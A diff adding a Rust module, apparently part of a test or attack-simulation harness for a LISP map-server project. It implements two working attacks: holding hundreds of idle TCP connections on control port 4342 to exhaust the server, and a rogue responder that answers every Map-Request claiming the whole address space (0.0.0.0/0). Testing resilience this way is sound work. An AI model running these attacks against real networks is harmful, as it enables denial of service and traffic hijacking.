@@ -1,0 +1,72 @@
+//! Attacks that hold on: connections that say nothing, and an ETR that claims everything.
+
+use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::thread;
+use std::time::Duration;
+
+use eidway::addr::Rloc;
+use eidway::wire::{CONTROL_PORT, Encapsulated, MapReply, MapRequest};
+
+use crate::X;
+use crate::pace::Sent;
+use crate::packets::{NEW_MSMR, record};
+
+/// Connections that are held at a time.
+const CONNECTIONS: usize = 500;
+/// How often one more is made while there are fewer.
+const A_WHILE: Duration = Duration::from_millis(20);
+
+/// Holds connections to port 4342 and says nothing on them; those that are closed are made anew.
+pub fn hold_connections(is_over: &AtomicBool) -> Sent {
+    let mut sent = Sent { name: "connections that idle", packets: 0, refused: 0 };
+    let mut held: Vec<TcpStream> = Vec::new();
+    let to = SocketAddr::new(NEW_MSMR.into(), CONTROL_PORT);
+    while !is_over.load(Ordering::Relaxed) {
+        held.retain(stands);
+        if held.len() < CONNECTIONS {
+            match TcpStream::connect_timeout(&to, A_WHILE * 10) {
+                Ok(stream) => {
+                    stream.set_nonblocking(true).unwrap();
+                    held.push(stream);
+                    sent.packets += 1;
+                }
+                Err(_) => sent.refused += 1,
+            }
+        }
+        thread::sleep(A_WHILE);
+    }
+    sent
+}
+
+fn stands(stream: &TcpStream) -> bool {
+    let mut octet = [0];
+    let peeked = stream.peek(&mut octet);
+    matches!(peeked, Ok(1))
+        || peeked.is_err_and(|error| error.kind() == std::io::ErrorKind::WouldBlock)
+}
+
+/// Answers each Map-Request that a map-server brings: the site of A is here, and so is everything.
+pub fn claim_all(is_over: &AtomicBool) -> Sent {
+    let mut sent = Sent { name: "replies that claim all", packets: 0, refused: 0 };
+    let socket = UdpSocket::bind((X, CONTROL_PORT)).unwrap();
+    socket.set_read_timeout(Some(A_WHILE)).unwrap();
+    let mut buffer = [0; 2000];
+    while !is_over.load(Ordering::Relaxed) {
+        let Ok(len) = socket.recv(&mut buffer) else { continue };
+        let Some((to, reply)) = claim(&buffer[..len]) else { continue };
+        match socket.send_to(&reply, SocketAddr::new(to.0, CONTROL_PORT)) {
+            Ok(_) => sent.packets += 1,
+            Err(_) => sent.refused += 1,
+        }
+    }
+    sent
+}
+
+fn claim(datagram: &[u8]) -> Option<(Rloc, Vec<u8>)> {
+    let outer = Encapsulated::parse(datagram).ok()?;
+    let request = MapRequest::parse(&outer.message).ok()?;
+    let records = vec![record(Ipv4Addr::UNSPECIFIED, 0, X)];
+    let reply = MapReply { nonce: request.nonce, records, ..MapReply::default() };
+    Some((*request.itr_rlocs.first()?, reply.emit()))
+}
